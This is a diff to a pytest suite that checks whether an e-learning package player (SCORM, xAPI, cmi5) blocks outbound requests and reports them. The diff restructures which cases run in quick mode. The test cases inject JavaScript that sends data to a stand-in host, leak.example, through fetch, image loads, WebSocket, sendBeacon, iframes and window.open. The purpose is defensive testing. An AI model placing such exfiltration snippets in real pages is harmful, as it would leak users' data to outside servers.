@@ -16,9 +16,8 @@ needs_browser = pytest.mark.skipif(shutil.which("chromium") is None, reason="chr
 pytestmark = needs_browser
 
 CASES = {
-    "fetch": ("window.fetch('https://leak.example/a');", "connect-src"),
+    "fetch": ("window.fetch('https://leak.example/a').catch(() => null);", "connect-src"),
     "a picture": ("new Image().src = 'https://leak.example/a.png';", "img-src"),
-    "a web socket": ("new WebSocket('wss://leak.example/');", "connect-src"),
     "a beacon": ("navigator.sendBeacon('https://leak.example/a', 'words');", "connect-src"),
     "a frame": (
         "document.body.appendChild(document.createElement('iframe')).src = 'https://leak.example/';",
@@ -39,7 +38,14 @@ def changed(
     return play(draft.save(folder / "package.zip"))
 
 
-@pytest.mark.parametrize("format_", ["scorm12", "scorm2004", "xapi", "cmi5", "standalone"])
+def whole(*names: str, quick: tuple[str, ...]) -> list[object]:
+    """The names, those that are not quick for the whole matrix alone."""
+    return [name if name in quick else pytest.param(name, marks=pytest.mark.full) for name in names]
+
+
+@pytest.mark.parametrize(
+    "format_", whole("scorm12", "scorm2004", "xapi", "cmi5", "standalone", quick=("scorm12", "cmi5"))
+)
 def test_our_packages_are_walked_to_the_end_and_never_leave(good: dict[str, Path], format_: str) -> None:
     played = play(good[format_])
     assert [name.partition(":")[0] for name in played.screens] == ["watch", "do-well", "my-card"]
@@ -48,7 +54,7 @@ def test_our_packages_are_walked_to_the_end_and_never_leave(good: dict[str, Path
         assert len(played.completed) == 1
 
 
-@pytest.mark.parametrize("way", CASES)
+@pytest.mark.parametrize("way", whole(*CASES, quick=("fetch",)))
 def test_the_pages_own_policy_stops_it_and_it_is_told(good: dict[str, Path], tmp_path: Path, way: str) -> None:
     script, rule = CASES[way]
     played = changed(good, tmp_path, script)
@@ -57,7 +63,8 @@ def test_the_pages_own_policy_stops_it_and_it_is_told(good: dict[str, Path], tmp
 
 
 def test_without_a_policy_every_way_out_is_shut_and_told(good: dict[str, Path], tmp_path: Path) -> None:
-    script = " ".join(f"try {{ {script} }} catch (error) {{}}" for script, _ in CASES.values())
+    ways = [*(script for script, _ in CASES.values()), "new WebSocket('wss://leak.example/');"]
+    script = " ".join(f"try {{ {script} }} catch (error) {{}}" for script in ways)
     played = changed(good, tmp_path, f"{script} window.open('https://leak.example/window');", open_policy=True)
     told = "\n".join(played.blocked)
     for words in (
@@ -68,7 +75,7 @@ def test_without_a_policy_every_way_out_is_shut_and_told(good: dict[str, Path], 
         "POST https://leak.example",
     ):
         assert words in told, told
-    assert {finding.code.id for finding in played.findings.errors} == {"A101"}
+    assert {finding.code.id for finding in played.findings.errors} == {"A101"}, played.errors
 
 
 def test_a_script_that_fails_is_told(good: dict[str, Path], tmp_path: Path) -> None:
